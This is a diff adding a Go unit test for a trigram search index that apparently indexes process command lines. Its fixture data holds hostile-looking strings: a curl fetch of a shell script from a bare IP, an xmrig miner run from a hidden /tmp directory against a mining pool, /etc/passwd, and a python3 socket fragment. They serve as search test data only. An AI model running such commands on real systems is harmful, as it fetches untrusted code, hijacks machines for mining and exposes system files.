@@ -0,0 +1,71 @@
+package search
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestIndex(t *testing.T) {
+	ix := New()
+	docs := map[int64][]string{
+		1: {Normalize("curl"), Normalize("curl -s http://203.0.113.9/x.sh")},
+		2: {Normalize("xmrig"), Normalize("/tmp/.X11/xmrig --url pool.example:3333")},
+		3: {Normalize("/etc/passwd"), ""},
+	}
+	for id := int64(1); id <= 3; id++ {
+		ix.Add(id, docs[id])
+	}
+
+	tests := []struct {
+		query   string
+		want    []int64
+		indexed bool
+	}{
+		{"CURL", []int64{1}, true},
+		{"113.9", []int64{1}, true},
+		{"xmrig pool", []int64{2}, true},
+		{"xmrig passwd", nil, true},
+		{"/", []int64{1, 2, 3}, false},
+		{"ur sh", []int64{1}, false},
+	}
+	for _, tt := range tests {
+		terms := Terms(tt.query)
+		ids, indexed := ix.Candidates(terms)
+		if indexed != tt.indexed {
+			t.Errorf("%q: indexed = %v", tt.query, indexed)
+			continue
+		}
+		if !indexed {
+			ids = []int64{1, 2, 3}
+		}
+		var got []int64
+		for _, id := range ids {
+			if _, ok := Match(terms, docs[id]); ok {
+				got = append(got, id)
+			}
+		}
+		if !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("%q: matches %v, want %v", tt.query, got, tt.want)
+		}
+	}
+
+	ix.Remove(1, docs[1])
+	if ids, _ := ix.Candidates(Terms("curl")); len(ids) != 0 {
+		t.Errorf("removed document still a candidate: %v", ids)
+	}
+	if ids, _ := ix.Candidates(Terms("xmrig")); !reflect.DeepEqual(ids, []int64{2}) {
+		t.Errorf("candidates after removal = %v", ids)
+	}
+	ix.Remove(2, docs[2])
+	ix.Remove(3, docs[3])
+	if len(ix.postings) != 0 {
+		t.Errorf("%d trigrams left after removing every document", len(ix.postings))
+	}
+}
+
+func TestMatch_Field(t *testing.T) {
+	fields := []string{"python3", "", "python3 -c import socket"}
+	if field, ok := Match(Terms("socket python"), fields); !ok || field != 2 {
+		t.Errorf("Match = %d, %v; want the field of the first term", field, ok)
+	}
+}